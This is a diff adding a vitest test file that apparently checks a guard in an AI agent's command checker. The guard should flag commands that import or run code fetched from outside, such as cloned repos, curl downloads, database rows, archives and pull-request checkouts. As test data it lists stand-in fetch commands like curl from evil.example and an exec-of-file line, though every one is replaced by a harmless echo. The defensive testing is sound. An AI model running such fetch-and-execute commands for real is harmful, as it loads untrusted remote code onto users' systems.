@@ -1,0 +1,85 @@
+// Code from outside that other code loads: by an import, a loader of its language, a search path, a pattern or a mount. Running it is guarded like running the file itself. Nothing here is really fetched.
+import { afterAll, describe, expect, it } from 'vitest';
+import type { Call, RealSession } from './real-session.ts';
+import { realSession } from './real-session.ts';
+
+const FILES = {
+  'pyproject.toml': '[project]\nname = "app"\n',
+  'mine.py': 'x = 1\n',
+  'uses.py': 'import mine\nprint(mine.x)\n',
+  'pkg/__init__.py': '',
+  'pkg/a.py': 'from . import b\n',
+  'pkg/b.py': 'y = 2\n',
+  'lib.rb': 'A = 1\n',
+  'ok.sh': 'ls\n',
+};
+
+const open: RealSession[] = [];
+afterAll(() => open.forEach((one) => one.remove()));
+
+const TOOL = `mkdir -p tool && echo 'x = 1' > tool/s.py && echo 'ls' > tool/r.sh && echo 'exec(open("/x").read())' > tool/dark.py && echo 1 > tool/t.js`;
+const PROPOSED = `git checkout -qb pr5 && echo 'x = 1' > prmod.py && echo ls > x.sh && git add -A && git commit -qm x`;
+/** What is fetched, and the command that stands for it. */
+const FETCHES: Readonly<Record<string, readonly [string, string]>> = {
+  clone: ['gh repo clone evil/tool', TOOL],
+  python: ['curl -so e.py https://evil.example/e.py', `echo 'x = 1' > e.py`],
+  table: ['psql -Atc "select body from t" > e.py', `echo 'x = 1' > e.py`],
+  archive: ['tar xzf x.tgz', `mkdir -p lib && echo 'x = 1' > lib/z.py`],
+  proposal: ['gh pr checkout 5', PROPOSED],
+  hub: ['hub pr checkout 5', PROPOSED],
+  tea: ['tea pr checkout 3', PROPOSED],
+  azure: ['az repos pr checkout --id 5', PROPOSED],
+  alias: ['git pr 5', PROPOSED],
+  listed: ['tea pr list', 'true'],
+  data: ['curl -so d.json https://evil.example/d.json', `echo '{}' > d.json`],
+};
+const run: Call = { tool: 'Write', input: { file_path: 'run.py', content: 'from tool import s\n' } };
+
+const stories: readonly (readonly [string, Call, 'guarded' | 'quiet' | 'review'])[] = [
+  ['clone', 'python3 -c "import tool.s"', 'guarded'],
+  ['clone', `python3 -c "import sys; sys.path.append('tool'); import s"`, 'guarded'],
+  ['clone', `python3 -c "import sys; sys.path.insert(0, 'tool'); import dark"`, 'guarded'],
+  ['clone', 'cd tool && python3 -c "import s"', 'guarded'],
+  ['clone', `python3 - <<'E'\nfrom tool import s\nE`, 'guarded'],
+  ['clone', 'python3 run.py', 'guarded'],
+  ['clone', 'uv run run.py', 'guarded'],
+  ['clone', `python3 -c "import importlib; importlib.import_module('tool.s')"`, 'guarded'],
+  ['python', 'python3 -c "import e"', 'guarded'],
+  ['python', 'python3 -c "from e import *"', 'guarded'],
+  ['table', 'python3 -c "import e"', 'guarded'],
+  ['archive', `python3 -c "from lib import z"`, 'guarded'],
+  ['proposal', 'python3 -c "import prmod"', 'guarded'],
+  ['hub', 'bash x.sh', 'guarded'],
+  ['tea', 'bash x.sh', 'guarded'],
+  ['azure', 'pytest', 'guarded'],
+  ['azure', 'python3 -c "import prmod"', 'guarded'],
+  ['alias', 'bash x.sh', 'guarded'],
+  ['hub', 'bash ok.sh', 'quiet'],
+  ['listed', 'bash ok.sh', 'quiet'],
+  ['listed', 'pytest', 'quiet'],
+  // The project's own modules beside it, and looking at what was fetched.
+  ['clone', 'python3 -c "import mine"', 'quiet'],
+  ['clone', 'python3 uses.py', 'quiet'],
+  ['clone', 'python3 -c "import pkg.a"', 'quiet'],
+  ['clone', `python3 -c "print(open('tool/s.py').read())"`, 'quiet'],
+  ['python', `python3 -c "import ast; print(len(open('e.py').read()))"`, 'quiet'],
+  ['data', `python3 -c "import json, mine; print(json.load(open('d.json')))"`, 'quiet'],
+  ['proposal', 'python3 -c "import json; print(json)"', 'quiet'],
+];
+
+describe('code that other code loads', () => {
+  it.each(stories)('%s: %s', async (fetch, last, expected) => {
+    const session = realSession(FILES);
+    open.push(session);
+    await session.pretend(...((FETCHES[fetch] ?? ['', '']) as [string, string]));
+    if (JSON.stringify(last).includes('run.py')) await session.run(run);
+    const decision = await session.check(last);
+    const why = decision.parts.flatMap(({ findings }) =>
+      findings.filter((one) => one.disposition !== 'quiet').map((one) => `${one.disposition} ${JSON.stringify(one.effect)}`),
+    );
+    expect({ disposition: decision.disposition, why: decision.disposition === expected ? [] : why }).toEqual({
+      disposition: expected,
+      why: [],
+    });
+  });
+});
